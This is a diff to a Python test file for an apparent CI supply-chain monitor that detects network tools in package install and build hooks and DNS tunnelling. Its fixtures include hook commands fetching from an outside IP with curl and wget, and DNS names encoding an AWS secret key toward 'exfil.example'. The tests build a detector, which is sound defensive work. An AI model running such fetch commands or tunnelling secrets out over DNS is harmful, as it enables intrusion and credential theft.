@@ -297,6 +297,14 @@ def test_every_rule_has_a_registered_id_with_the_same_default_and_a_documented_s
     assert len(ALL_RULES) == len(RULES_BY_ID)
 
 
+def test_every_policy_snippet_in_the_rules_doc_loads() -> None:
+    snippets = re.findall(r"```yaml\n(.*?)```", DOCS.read_text(), re.DOTALL)
+    policies = [text for text in snippets if "ciwatch run" not in text]  # a CI workflow, not a policy
+    assert len(policies) >= 11
+    for index, text in enumerate(policies):
+        parse_policy(text if "\nversion:" in f"\n{text}" else f"version: 1\n{text}", f"docs/rules.md[{index}]")
+
+
 def test_a_finding_links_to_its_rule_section(build: Build) -> None:
     build.hook().spawn(["curl", "-fsS", "http://203.0.113.5/x"])
     finding = only(build.judge(), "hook-network-tool")
@@ -459,6 +467,14 @@ def test_hook_network_tool_when_the_hook_process_itself_execs_the_tool(build: Bu
 def test_hook_network_tool_ignores_ordinary_hook_commands(build: Build, argv: list[str]) -> None:
     build.hook().spawn(argv, path="/bin/busybox" if argv[0] == "busybox" else None)
     assert found(build.judge(), "hook-network-tool") == []
+
+
+def test_hook_network_tool_in_a_pip_build_hook(build: Build) -> None:
+    hook = build.pip_hook(build.pip_root(), "ctx", "0.2.6")
+    hook.spawn(["sh", "-c", "wget -q http://203.0.113.5/x"]).spawn(["wget", "-q", "http://203.0.113.5/x"])
+    finding = only(build.judge(), "hook-network-tool")
+    assert (finding.ecosystem, finding.package, finding.hook) == ("pip", "ctx@0.2.6", "build_wheel")
+    assert finding.lineage == "npm ci > pip install > build_wheel of ctx@0.2.6 > sh -c > wget -q"
 
 
 def test_hook_network_tool_ignores_the_build_outside_hooks(build: Build) -> None:
@@ -853,9 +869,10 @@ def _b32(data: bytes) -> str:
     [
         [bytes(range(i, i + 12)).hex() for i in range(0, 60, 12)],  # dnscat2-style hex
         [_b32(b"AWS_SECRET_ACCESS_KEY=" + bytes([i])) for i in range(4)],  # iodine-style base32
-        ["x7Kq9Zp2Lm4Nv8Rt6Yw3Bc5D", "Hj2Kl9Mn4Pq7Rs1Tu6Vw3Xy8Z", "a9B8c7D6e5F4g3H2i1J0kLmN"],  # base64-ish
+        ["x7Kq9Zp2Lm4Nv8Rt6Yw3Bc5D", "Hj2Kl9Mn4Pq7Rs1Tu6Vw3Xy8Z", "a9B8c7D-6e5F4g3H2i1J0kLmN"],  # base64url
+        ["-".join(_b32(bytes(range(i, 250, 10)))[j : j + 8] for j in range(0, 40, 8)) for i in range(3)],  # cut up
     ],
-    ids=["hex", "base32", "base64"],
+    ids=["hex", "base32", "base64", "chunked"],
 )
 def test_dns_tunnel_encoded_labels_under_one_zone(build: Build, labels: list[str]) -> None:
     node = build.hook().spawn(["node", "install.js"])
@@ -870,6 +887,14 @@ def test_dns_tunnel_one_very_long_name(build: Build) -> None:
     assert len(name) >= 100
     build.hook().spawn(["node", "install.js"]).dns(name)
     assert only(build.judge(), "dns-tunnel").host == "exfil.example"
+
+
+def test_dns_tunnel_is_excepted_by_its_zone(build: Build) -> None:
+    node = build.hook().spawn(["node", "install.js"])
+    for index in range(3):
+        node.dns(f"{bytes(range(index, index + 16)).hex()}.spans.tracing-vendor.example")
+    policy = "version: 1\nexceptions: [{rule: dns-tunnel, host: tracing-vendor.example, reason: span ids}]\n"
+    assert only(build.judge(policy), "dns-tunnel").excepted == "span ids (policy.yml:2)"
 
 
 def test_dns_tunnel_needs_several_names(build: Build) -> None:
@@ -899,12 +924,16 @@ def test_dns_tunnel_ignores_ordinary_cdn_and_cloud_names(build: Build) -> None:
         "mycompanyartifactsstorage.blob.core.windows.net",
         "kubernetes-release-mirror.storage.googleapis.com",
         "static-production-website-assets.storage.googleapis.com",
-        "europe-west1-docker.pkg.dev",
-        "us-central1-docker.pkg.dev",
-        "artifactregistry-europe-west1.pkg.dev",
         "pipelinesghubeus6.actions.githubusercontent.com",
         "pipelinesghubeus21.actions.githubusercontent.com",
-        "release-assets.githubusercontent.com",
+        # services named by people, with a project's random token in them
+        "hello-2ldgwxzwxa-uc.a.run.app",
+        "api-2ldgwxzwxa-uc.a.run.app",
+        "worker-x4bq7nrs2a-ue.a.run.app",
+        "app-name-5f7d8b9c6-x2k4p.apps.example.internal",
+        "ip-10-0-1-23.ec2.internal",
+        "ip-10-0-1-24.ec2.internal",
+        "ip-10-0-1-25.ec2.internal",
     ]
     node = build.hook().spawn(["node", "install.js"])
     for name in names:
